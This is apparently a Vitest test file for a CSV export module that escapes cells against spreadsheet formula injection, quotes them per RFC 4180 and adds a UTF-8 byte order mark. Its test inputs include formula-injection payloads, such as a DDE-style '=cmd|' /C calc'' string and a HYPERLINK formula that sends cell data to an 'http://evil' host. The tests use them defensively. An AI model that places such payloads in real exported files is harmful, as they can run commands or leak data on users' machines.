import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { CLAIM_CSV_HEADER, claimCsvRow, csvCell, csvRow, UTF8_BOM, withUtf8Bom } from './claim-csv.js';

describe('csvCell', () => {
  it('leaves plain values alone and writes nothing for a missing one', () => {
    expect(csvCell('GRANTED')).toBe('GRANTED');
    expect(csvCell('2025-12-01T00:00:00.000Z')).toBe('2025-12-01T00:00:00.000Z');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('')).toBe('');
  });

  it('quotes commas, quotes and line breaks (RFC 4180), doubling inner quotes', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('cr\r\nlf')).toBe('"cr\r\nlf"');
  });

  it.each(['=SUM(A1:A2)', '+1', '-1', '@cmd', '\tx', '\rx', '\nx', ' =1+1', '\n=HYPERLINK(A1)', ' \t @cmd'])(
    'escapes the formula-like %j with a leading quote',
    (value) => {
      const cell = csvCell(value);
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1) : cell;
      expect(unquoted.startsWith("'")).toBe(true);
      // The text as it was, but for the same quote after a line break or tab that a formula follows (see below).
      expect(unquoted.slice(1).replace(/([\t\r\n]\s*)'/g, '$1')).toBe(value);
    },
  );

  it('escapes and quotes together', () => {
    expect(csvCell('=HYPERLINK("http://x","y")')).toBe('"\'=HYPERLINK(""http://x"",""y"")"');
  });

  it('does not escape a formula character later in the text', () => {
    expect(csvCell('a=b')).toBe('a=b');
  });

  it("escapes a formula after a ';', where Excel in a ';' locale starts a cell whatever the quotes", () => {
    expect(csvCell("x;=cmd|' /C calc'!A0;")).toBe("x;'=cmd|' /C calc'!A0;");
    expect(csvCell('ok;=1+1;')).toBe("ok;'=1+1;");
    expect(csvCell('a; -1;b')).toBe("a; '-1;b");
    expect(csvCell('a;b;c')).toBe('a;b;c');
    expect(csvCell('fine\n=HYPERLINK("http://evil/?"&A1,"x")')).toBe('"fine\n\'=HYPERLINK(""http://evil/?""&A1,""x"")"');
    // Split as such an Excel splits the row, at ';' and at line breaks: no piece starts as a formula, quoted or not.
    for (const note of [
      'x;=cmd',
      'say "hi";"=HYPERLINK(""x"")"',
      'a, b;@SUM(1);+2',
      '=1;=2',
      ';\t=3',
      'fine\n=HYPERLINK("http://evil/?"&A1,"x")',
      'ok\r\n+1+cmd|x',
      'a\r -1',
    ]) {
      const row = csvRow(['id', note, 'GRANTED']);
      for (const piece of row.split(/[;\r\n]/)) expect(piece, `${note} -> ${row}`).not.toMatch(/^[\s"]*[=+\-@]/);
    }
  });

  it('quotes a tab and escapes a formula after one, where an import split at tabs starts a cell', () => {
    expect(csvCell('ok\t=1+1')).toBe('"ok\t\'=1+1"');
    expect(csvCell('a\tb')).toBe('"a\tb"');
    for (const note of ['ok\t=1+1', 'x\t\t@SUM(1)', 'a\t "+cmd', 'tab\t-2;=3']) {
      const row = csvRow(['id', note, 'GRANTED']);
      for (const piece of row.split(/[;\t\r\n]/)) expect(piece, `${note} -> ${row}`).not.toMatch(/^[\s"]*[=+\-@]/);
    }
  });
});

describe('rows', () => {
  it('joins cells with commas and ends with CRLF', () => {
    expect(csvRow(['a', undefined, 'b,c'])).toBe('a,,"b,c"\r\n');
    expect(CLAIM_CSV_HEADER).toBe('id,eventId,userId,status,reason,note,rewards,createdAt,decidedAt,decidedBy,payoutStatus\r\n');
  });

  it('writes a claim with its rewards as quoted JSON', () => {
    const row = claimCsvRow({
      id: 'c1',
      eventId: 'e1',
      userId: 'u1',
      status: 'REVOKED',
      note: '-fraud, confirmed',
      rewards: [{ rewardId: 'r1', type: 'POINT', name: 'Points', quantity: 5 }],
      createdAt: '2025-12-01T00:00:00.000Z',
      decidedAt: '2025-12-02T00:00:00.000Z',
      decidedBy: 'op',
      payout: { status: 'FAILED', attempts: 8 },
    });
    expect(row).toBe(
      'c1,e1,u1,REVOKED,,"\'-fraud, confirmed","[{""rewardId"":""r1"",""type"":""POINT"",""name"":""Points"",""quantity"":5}]",' +
        '2025-12-01T00:00:00.000Z,2025-12-02T00:00:00.000Z,op,FAILED\r\n',
    );
  });
});

describe('withUtf8Bom', () => {
  it('puts the UTF-8 byte order mark in front of the CSV, which stays byte for byte the same', async () => {
    const csv = `${CLAIM_CSV_HEADER}${csvRow(['id-1', '보상 지급'])}`;
    const chunks: Buffer[] = [];
    for await (const chunk of withUtf8Bom(
      Readable.from([CLAIM_CSV_HEADER, csvRow(['id-1', '보상 지급'])], { objectMode: false }),
    )) {
      chunks.push(Buffer.isBuffer(chunk) ? chunk : Buffer.from(chunk as string));
    }
    const bytes = Buffer.concat(chunks);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe(csv);
    expect(UTF8_BOM).toBe('\uFEFF');
  });
});
